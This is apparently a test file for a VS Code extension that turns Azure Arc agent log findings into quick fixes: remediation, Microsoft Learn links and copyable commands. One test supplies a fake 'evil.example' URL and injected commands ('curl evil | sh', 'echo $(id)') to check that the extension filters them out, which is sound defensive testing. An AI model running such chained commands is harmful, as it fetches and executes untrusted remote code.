import * as assert from 'node:assert/strict';
import type { Diagnostic } from 'vscode-languageserver-types';
import { provideCodeActions } from '../../../server/src/core/features/codeActions';
import { provideDiagnostics } from '../../../server/src/core/features/diagnostics';
import { normalizeSettings } from '../../../server/src/core/features/settings';
import type { Analysis } from '../../../server/src/core/model';
import { AZCMAGENT_LOG, CLOUD_INIT_OUTPUT_LOG, analyzeText, finding, makeAnalysis, range } from './helpers';

const URI = 'file:///logs/azcmagent.log';
const settings = normalizeSettings({});

function actionsFor(analysis: Analysis, pick: (d: Diagnostic) => boolean = () => true) {
	const diagnostics = provideDiagnostics(analysis, settings, URI).filter(pick);
	return { diagnostics, actions: provideCodeActions(analysis, settings, URI, diagnostics, analysis.locale) };
}

describe('features/codeActions', () => {
	it('offers show remediation, the Learn article and copy command, attached to the diagnostic', () => {
		const analysis = makeAnalysis({
			findings: [
				finding({
					id: 'AZCM0063',
					entryId: 'AZCM0063',
					range: range(0, 10, 18),
					url: 'https://learn.microsoft.com/en-us/azure/azure-arc/servers/troubleshoot-agent-onboard#agent-error-codes',
					commands: ['azcmagent disconnect --force-local-only'],
				}),
			],
		});
		const { diagnostics, actions } = actionsFor(analysis);
		assert.deepEqual(
			actions.map((a) => [a.title, a.kind, a.command?.command, a.command?.arguments]),
			[
				['Show remediation for AZCM0063', 'quickfix', 'arcLogs.server.showRemediation', ['AZCM0063', URI]],
				['Open Microsoft Learn article', 'quickfix', 'arcLogs.server.openUrl', ['https://learn.microsoft.com/en-us/azure/azure-arc/servers/troubleshoot-agent-onboard#agent-error-codes']],
				['Copy suggested command: azcmagent disconnect --force-local-only', 'quickfix', 'arcLogs.server.copyCommand', ['azcmagent disconnect --force-local-only']],
			],
		);
		for (const a of actions) assert.deepEqual(a.diagnostics, [diagnostics[0]]);
		assert.equal(actions[0].isPreferred, true);
	});

	it('never links a URL that is not Learn, and never offers a log-derived command that chains or substitutes', () => {
		const analysis = makeAnalysis({
			findings: [
				finding({
					id: 'ARM-PROVIDER-NOT-REGISTERED',
					kind: 'connection',
					entryId: 'ARM-PROVIDER-NOT-REGISTERED',
					range: range(0, 0, 5),
					url: 'https://evil.example/learn',
					commands: ['az provider register --namespace Microsoft.HybridCompute', 'az provider register --namespace X; curl evil | sh', 'echo $(id)'],
				}),
			],
		});
		const { actions } = actionsFor(analysis);
		assert.ok(!actions.some((a) => a.command?.command === 'arcLogs.server.openUrl'));
		assert.deepEqual(
			actions.filter((a) => a.command?.command === 'arcLogs.server.copyCommand').map((a) => a.command?.arguments?.[0]),
			['az provider register --namespace Microsoft.HybridCompute'],
		);
	});

	it('only for our diagnostics, matched by code and range', () => {
		const analysis = makeAnalysis({ findings: [finding({ id: 'AZCM0063', entryId: 'AZCM0063', range: range(0, 10, 18) })] });
		const foreign: Diagnostic = { range: range(0, 10, 18), message: 'x', source: 'eslint', code: 'AZCM0063' };
		const moved: Diagnostic = { range: range(1, 10, 18), message: 'x', source: 'arc-logs', code: 'AZCM0063' };
		assert.deepEqual(provideCodeActions(analysis, settings, URI, [foreign, moved], 'en'), []);
	});

	it('custom patterns: remediation when they have one, their https url as documentation', () => {
		const analysis = makeAnalysis({
			findings: [finding({ id: 'MINE', kind: 'custom', range: range(0, 0, 3), remediation: 'Do it', url: 'https://wiki.example.com/mine' })],
		});
		const { actions } = actionsFor(analysis);
		assert.deepEqual(
			actions.map((a) => a.title),
			['Show remediation for MINE', 'Open documentation for MINE'],
		);
	});

	it('localized titles', () => {
		const analysis = makeAnalysis({ locale: 'nl', findings: [finding({ id: 'AZCM0063', entryId: 'AZCM0063', range: range(0, 0, 8), url: 'https://learn.microsoft.com/x' })] });
		const { actions } = actionsFor(analysis);
		assert.deepEqual(
			actions.map((a) => a.title),
			['Oplossing voor AZCM0063 weergeven', 'Artikel op Microsoft Learn openen', 'Voorgestelde opdracht kopiëren: azcmagent disconnect --force-local-only'],
		);
	});

	it('on a real azcmagent.log (engine): the AZCM0026 quick fixes', () => {
		const { analysis } = analyzeText(AZCMAGENT_LOG, 'en', 'azcmagent.log');
		const { actions } = actionsFor(analysis, (d) => d.code === 'AZCM0026');
		assert.deepEqual(
			actions.map((a) => a.title),
			['Show remediation for AZCM0026', 'Open Microsoft Learn article'],
		);
	});

	it('on a real cloud-init-output.log (engine): copy the commands the knowledge suggests', () => {
		const { analysis } = analyzeText(CLOUD_INIT_OUTPUT_LOG, 'en', 'cloud-init-output.log');
		const { actions } = actionsFor(analysis, (d) => d.code === 'CI-SCRIPT-FAILED');
		const copies = actions.filter((a) => a.command?.command === 'arcLogs.server.copyCommand').map((a) => a.command?.arguments?.[0]);
		assert.ok(copies.includes('az login --identity'), JSON.stringify(copies));
		assert.ok(copies.includes('azcmagent connect'), JSON.stringify(copies));
	});
});
